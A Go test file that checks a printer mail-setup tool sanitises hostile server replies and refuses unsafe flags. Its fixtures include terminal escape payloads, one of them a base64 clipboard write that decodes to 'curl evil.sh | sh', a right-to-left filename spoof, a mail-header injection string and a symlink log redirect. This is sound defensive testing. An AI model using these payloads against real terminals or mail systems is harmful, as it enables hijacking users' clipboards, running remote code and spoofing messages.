package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"mfpmail/demo"
	"mfpmail/internal/reportschema"
)

// evil is what a hostile server puts in every text: a window title
// (OSC 0), a clipboard write (OSC 52), a screen clear (CSI), the same as
// a C1 control, and a right-to-left override.
const evil = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b[H \u009b2J \u202egpj.exe"

// noTerminalControl fails if s holds a byte sequence that would act on a
// terminal or reorder text: ESC, BEL, C1 CSI, RLO.
func noTerminalControl(t *testing.T, where string, s string) {
	t.Helper()
	for _, c := range []string{"\x1b", "\x07", "\u009b", "\u202e"} {
		if strings.Contains(s, c) {
			i := strings.Index(s, c)
			t.Errorf("%s holds %q near %q", where, c, s[max(0, i-40):min(len(s), i+40)])
		}
	}
}

// startHostileIdP is an identity provider and Graph that put evil in every
// field they send, on plain http on loopback.
func startHostileIdP(t *testing.T, refuse bool) string {
	t.Helper()
	claims, _ := json.Marshal(map[string]any{"preferred_username": "scanner@contoso.com", "email": "e" + evil,
		"name": "Scanner " + evil, "tid": "tid" + evil, "oid": "oid" + evil})
	idTok := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none"}`)) + "." + base64.RawURLEncoding.EncodeToString(claims) + ".sig"
	answer := func(w http.ResponseWriter, v any) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(v)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/devicecode"):
			answer(w, map[string]any{"device_code": "dev-0123456789abcdef", "user_code": "EVIL-CODE", "verification_uri": "https://idp.example/device",
				"expires_in": 900, "interval": 1, "message": evil})
		case strings.HasSuffix(r.URL.Path, "/token") && refuse:
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadRequest)
			json.NewEncoder(w).Encode(map[string]any{"error": "access_denied" + evil, "error_description": "AADSTS50126: " + evil,
				"error_codes": []int{50126}, "trace_id": "trace-" + evil, "correlation_id": "corr-" + evil, "timestamp": evil})
		case strings.HasSuffix(r.URL.Path, "/token"):
			answer(w, map[string]any{"access_token": "at-0123456789abcdef", "token_type": "Bearer", "expires_in": 3600,
				"refresh_token": "rt-0123456789abcdef", "id_token": idTok})
		case strings.HasPrefix(r.URL.Path, "/v1.0/me"):
			answer(w, map[string]any{"id": "id" + evil, "displayName": "Scanner " + evil, "userPrincipalName": "scanner@contoso.com",
				"mail": "scanner@contoso.com", "proxyAddresses": []string{"SMTP:scanner@contoso.com", "smtp:alias" + evil + "@contoso.com"}})
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// startHostileSMTP accepts the test message but puts evil into every
// reply. It returns its port and a file holding the CA it is signed by.
func startHostileSMTP(t *testing.T) (int, string) {
	t.Helper()
	ca, err := demo.NewCA()
	if err != nil {
		t.Fatal(err)
	}
	caFile := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(caFile, ca.CertPEM(), 0o600); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	var mu sync.Mutex
	var conns []net.Conn
	t.Cleanup(func() {
		ln.Close()
		mu.Lock()
		for _, c := range conns {
			c.Close()
		}
		mu.Unlock()
		wg.Wait()
	})
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer c.Close()
				serveEvilSMTP(c, ca.ServerTLSConfig())
			}()
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port, caFile
}

func serveEvilSMTP(c net.Conn, cfg *tls.Config) {
	var conn net.Conn = c
	r := bufio.NewReader(conn)
	say := func(lines ...string) {
		for _, l := range lines {
			io.WriteString(conn, l+"\r\n")
		}
	}
	say("220 evil.test ESMTP " + evil)
	inTLS := false
	for {
		l, err := r.ReadString('\n')
		if err != nil {
			return
		}
		verb := strings.ToUpper(strings.Fields(l + " x")[0])
		switch verb {
		case "EHLO":
			if inTLS {
				say("250-evil.test "+evil, "250 AUTH XOAUTH2")
			} else {
				say("250-evil.test "+evil, "250 STARTTLS")
			}
		case "STARTTLS":
			say("220 2.0.0 go ahead " + evil)
			tc := tls.Server(c, cfg)
			if tc.Handshake() != nil {
				return
			}
			conn, r, inTLS = tc, bufio.NewReader(tc), true
		case "AUTH":
			if len(strings.Fields(l)) == 2 {
				say("334 ")
				r.ReadString('\n')
			}
			say("235 2.7.0 ok " + evil)
		case "DATA":
			say("354 go on " + evil)
			for {
				l, err := r.ReadString('\n')
				if err != nil || strings.TrimSpace(l) == "." {
					break
				}
			}
			say("250 2.0.0 queued " + evil)
		case "QUIT":
			say("221 bye " + evil)
			return
		default:
			say("250 2.1.0 ok " + evil)
		}
	}
}

// `check` against an identity provider, Graph and SMTP server that put
// terminal controls in every field: the table, the JSON, the Markdown and
// JSON reports and the support log hold none of them, and show them as
// visible escapes instead.
func TestCheckAgainstHostileServers(t *testing.T) {
	idp := startHostileIdP(t, false)
	port, caFile := startHostileSMTP(t)
	dir := t.TempDir()
	base := []string{"check", "--authority", idp, "--graph-url", idp, "--smtp-host", "127.0.0.1", "--smtp-port", strconv.Itoa(port),
		"--ca-file", caFile, "--from-policy", "locked", "--login-credentials", "system", "--device-email", "scanner@contoso.com"}
	for _, tc := range []struct {
		name  string
		extra []string
	}{
		{"table", []string{"--report", filepath.Join(dir, "r.md"), "--log", filepath.Join(dir, "table.log")}},
		{"json", []string{"--json", "--report", filepath.Join(dir, "r.json"), "--log", filepath.Join(dir, "json.log")}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out, errb bytes.Buffer
			code := run(append(append([]string(nil), base...), tc.extra...), &out, &errb)
			if code == 2 { // any verdict will do; bad input will not
				t.Fatalf("exit %d: %s", code, errb.String())
			}
			noTerminalControl(t, "stdout", out.String())
			noTerminalControl(t, "stderr", errb.String())
			if !strings.Contains(out.String(), "test-send") {
				t.Fatalf("no checks printed:\n%s\n%s", out.String(), errb.String())
			}
			report, logf := tc.extra[len(tc.extra)-3], tc.extra[len(tc.extra)-1]
			for _, f := range []string{report, logf} {
				b, err := os.ReadFile(f)
				if err != nil {
					t.Fatal(err)
				}
				noTerminalControl(t, f, string(b))
				if strings.HasSuffix(f, ".json") {
					reportschema.Check(t, b)
					reportschema.Check(t, out.Bytes())
				}
				if !strings.Contains(string(b), `\x1b]52;c;`) && !strings.Contains(string(b), `\\x1b]52;c;`) {
					t.Errorf("%s does not show the server's text escaped", f)
				}
				if st, _ := os.Stat(f); st.Mode().Perm() != 0o600 {
					t.Errorf("%s: mode %v, want 0600", f, st.Mode().Perm())
				}
			}
			// The log keeps what the SMTP server sent in quoted form.
			if b, _ := os.ReadFile(logf); !strings.Contains(string(b), `\\u202egpj.exe`) {
				t.Errorf("log lacks the quoted SMTP line")
			}
		})
	}
}

// The same when the identity provider refuses the sign-in: the refusal's
// texts reach the table, the JSON and the reports cleaned.
func TestCheckRefusedByHostileIdP(t *testing.T) {
	idp := startHostileIdP(t, true)
	dir := t.TempDir()
	for _, format := range []string{"md", "json"} {
		report, logf := filepath.Join(dir, "r."+format), filepath.Join(dir, format+".log")
		var out, errb bytes.Buffer
		args := []string{"check", "--authority", idp, "--graph-url", idp, "--smtp-port", "9", "--smtp-host", "127.0.0.1",
			"--report", report, "--log", logf}
		if format == "json" {
			args = append(args, "--json")
		}
		if code := run(args, &out, &errb); code != 1 {
			t.Fatalf("exit %d: %s", code, errb.String())
		}
		noTerminalControl(t, "stdout", out.String())
		noTerminalControl(t, "stderr", errb.String())
		for _, f := range []string{report, logf} {
			b, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			noTerminalControl(t, f, string(b))
		}
		if format == "json" {
			b, _ := os.ReadFile(report)
			reportschema.Check(t, b)
			reportschema.Check(t, out.Bytes())
		}
		if b, _ := os.ReadFile(report); !strings.Contains(string(b), `\x1b]52;c;`) {
			t.Errorf("%s does not show the provider's refusal escaped:\n%s", report, b)
		}
	}
}

// Values that would carry a secret to where it does not belong, or inject
// a mail header, are refused with one line and exit 2, before any network
// work; the password is not repeated.
func TestFlagsRefusedBeforeNetwork(t *testing.T) {
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, "dir.md"), 0o700); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		args []string
		want []string
	}{
		{[]string{"--authority", "https://user:s3cret@login.example.com"}, []string{"--authority", "user info"}},
		{[]string{"--authority", "http://user:s3cret@127.0.0.1:9"}, []string{"--authority", "user info"}},
		{[]string{"--graph-url", "https://u:s3cret@graph.example.com"}, []string{"--graph-url", "user info"}},
		{[]string{"--token-url", "https://u:s3cret@idp.example/token"}, []string{"--token-url", "user info"}},
		{[]string{"--device-auth-url", "https://u:s3cret@idp.example/device"}, []string{"--device-auth-url", "user info"}},
		{[]string{"--redirect-uri", "https://u:s3cret@x.example/"}, []string{"--redirect-uri", "user info"}},
		{[]string{"--sender-name", "Scanner\r\nBcc: all@contoso.com"}, []string{"--sender-name", "CR or LF"}},
		{[]string{"--sender-name", "Scanner\nX: y"}, []string{"--sender-name", "CR or LF"}},
		{[]string{"--sender-name", "Scanner\x1b]0;x\x07"}, []string{"--sender-name", "control"}},
		{[]string{"--report", filepath.Join(dir, "dir.md")}, []string{"--report", "is a directory"}},
		{[]string{"--report", filepath.Join(dir, strings.Repeat("r", 300)+".md")}, []string{"--report", "file name"}},
		{[]string{"--report", dir + "/"}, []string{"--report"}},
	}
	for _, tc := range cases {
		for _, sub := range [][]string{{"check"}, {}} {
			if len(sub) == 0 && tc.args[0] == "--report" {
				continue // the wizard asks for the report's name on its last screen
			}
			args := append(append(append([]string(nil), sub...), tc.args...), "--tenant", "contoso.com")
			if tc.args[0] != "--authority" {
				// Nothing listens there: a network attempt would be exit 1.
				args = append(args, "--authority", "https://127.0.0.1:9")
			}
			var out, errb bytes.Buffer
			code := run(args, &out, &errb)
			msg := errb.String()
			if code != 2 || strings.Count(msg, "\n") != 1 {
				t.Errorf("%q: exit %d, stderr %q; want 2 and one line", args, code, msg)
				continue
			}
			for _, w := range tc.want {
				if !strings.Contains(msg, w) {
					t.Errorf("%q: message %q lacks %q", args, msg, w)
				}
			}
			if strings.Contains(msg, "s3cret") {
				t.Errorf("%q: the password is repeated: %q", args, msg)
			}
			noTerminalControl(t, "message", msg)
		}
	}
}

// --log refuses a symbolic link (which could point it at another file,
// here one the technician cares about) and makes an existing log 0600.
func TestLogFile(t *testing.T) {
	dir := t.TempDir()
	target := filepath.Join(dir, "precious")
	if err := os.WriteFile(target, []byte("keep me\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "support.log")
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
	var out, errb bytes.Buffer
	code := run([]string{"check", "--demo", "--log", link}, &out, &errb)
	if code != 2 || strings.Count(errb.String(), "\n") != 1 || !strings.Contains(errb.String(), "symbolic link") {
		t.Fatalf("exit %d, stderr %q; want 2 and one line about the link", code, errb.String())
	}
	if b, _ := os.ReadFile(target); string(b) != "keep me\n" {
		t.Fatalf("the link's target was written: %q", b)
	}

	old := filepath.Join(dir, "old.log")
	if err := os.WriteFile(old, []byte(strings.Repeat("old line\n", 100)), 0o644); err != nil {
		t.Fatal(err)
	}
	out.Reset()
	errb.Reset()
	if code := run([]string{"check", "--demo", "--log", old}, &out, &errb); code != 3 { // not confirmed on the device
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	st, err := os.Stat(old)
	if err != nil {
		t.Fatal(err)
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("existing log kept mode %v, want 0600", st.Mode().Perm())
	}
	if b, _ := os.ReadFile(old); strings.Contains(string(b), "old line") {
		t.Errorf("the old log's content is still there")
	}
}
